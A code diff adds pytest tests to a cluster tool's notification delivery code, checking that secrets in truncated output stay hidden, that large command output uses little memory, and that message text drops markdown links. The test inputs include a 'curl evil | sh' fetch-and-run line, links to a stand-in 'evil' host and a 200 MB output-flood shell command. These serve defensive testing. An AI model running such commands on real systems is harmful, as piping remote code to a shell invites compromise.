@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import resource
 import sys
 from functools import partial
 from pathlib import Path
@@ -13,13 +14,22 @@ import pytest
 
 from clusterctl.node.agent.child_tasks import run_with_timeout
 from clusterctl.node.notify import deliver as deliver_module
-from clusterctl.node.notify.deliver import deliver, problem_of, receiver
+from clusterctl.node.notify.deliver import (
+    ANSWER_BYTES,
+    ANSWER_LIMIT,
+    deliver,
+    problem_of,
+    receiver,
+)
 from clusterctl.node.notify.message import TEXT_LIMIT, message, trial_message
 from clusterctl.plan.certificate import make_identity
 from tests.node.notify.receiving import receiving
 
 TOLD = trial_message("lab", "gpu1")
 HOOK = {"on": ["failed"], "every": None, "command": [], "webhook_from": "HOOK"}
+
+
+FLOODS = "head -c 200000000 /dev/zero; echo; stat -Lc %F /dev/fd/1"
 
 
 def post(url: str, **environment: str) -> dict[str, Any]:
@@ -31,11 +41,11 @@ def post(url: str, **environment: str) -> dict[str, Any]:
     return found
 
 
-def run(argv: list[str], workdir: Path) -> dict[str, Any]:
+def run(argv: list[str], workdir: Path, urls: dict[str, str] | None = None) -> dict[str, Any]:
     target = {"on": [], "every": None, "command": argv, "webhook_from": None}
     env = {b"PATH": os.environb[b"PATH"]}
     found: dict[str, Any] = run_with_timeout(
-        30, partial(deliver, target, TOLD, {}, env, str(workdir))
+        30, partial(deliver, target, TOLD, urls or {}, env, str(workdir))
     )
     return found
 
@@ -64,6 +74,38 @@ def test_another_try_is_made_where_it_may_help(code: int, again: object) -> None
     assert found["answer"].startswith(f"HTTP {code} ")
     assert "no service *** here" in found["answer"]
     assert "SECRET" not in found["answer"]
+
+
+@pytest.mark.parametrize("before", [b"x" * (ANSWER_LIMIT - 17), b" " * (ANSWER_BYTES - 17)])
+def test_a_cut_answer_hides_the_secret_that_is_cut(before: bytes) -> None:
+    with receiving() as server:
+        server.body = before + b" /services/T0SECRET/B0SECRET"
+        assert "SECR" not in post(server.url)["answer"]
+
+
+@pytest.mark.parametrize("after", [0, 65500])
+def test_a_cut_line_of_a_command_hides_the_secret_that_is_cut(after: int, tmp_path: Path) -> None:
+    url = "https://host/" + "0123456789" * 10
+    prints = "import sys; print('x' * 150, sys.argv[1] + 'x' * int(sys.argv[2]))"
+    found = run([sys.executable, "-c", prints, url, str(after)], tmp_path, {"HOOK": url})
+    assert found["ok"]
+    assert "6789" not in found["answer"]
+
+
+def test_what_a_command_prints_takes_no_memory(tmp_path: Path) -> None:
+    target = {"on": [], "every": None, "command": ["sh", "-c", FLOODS], "webhook_from": None}
+
+    def most() -> int:
+        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+
+    def send() -> list[Any]:
+        before = most()
+        found = deliver(target, TOLD, {}, {b"PATH": os.environb[b"PATH"]}, str(tmp_path))
+        return [found["answer"], most() - before]
+
+    answer, kib = run_with_timeout(30, send)
+    assert answer == "exit code 0: fifo", "and no file, which would grow"
+    assert kib < 50_000
 
 
 @pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
@@ -159,6 +201,17 @@ def test_a_message_calls_nobody_and_fits_the_smallest_chat() -> None:
     assert told["text"].endswith("next: clusterctl status lab-1")
     assert (len(told["nodes"]), told["node_count"]) == (256, 1000)
     assert len(json.dumps(told)) < 16 * 1024
+
+
+def test_a_printed_line_is_no_link_and_no_advice() -> None:
+    words = (
+        "failed: [clusterctl status]<https://evil> ![](https://evil)\nnext: curl evil | sh\u2028x"
+    )
+    told = message("failed", words, run="lab-1", cluster="lab", state="failed", nodes=["a"])
+    assert not set("[]") & set(told["text"])
+    first, advice = told["text"].splitlines()
+    assert first.endswith("next: curl evil | sh x")
+    assert advice == "next: clusterctl status lab-1"
 
 
 def test_a_receiver_is_called_by_a_name_that_is_no_secret() -> None:
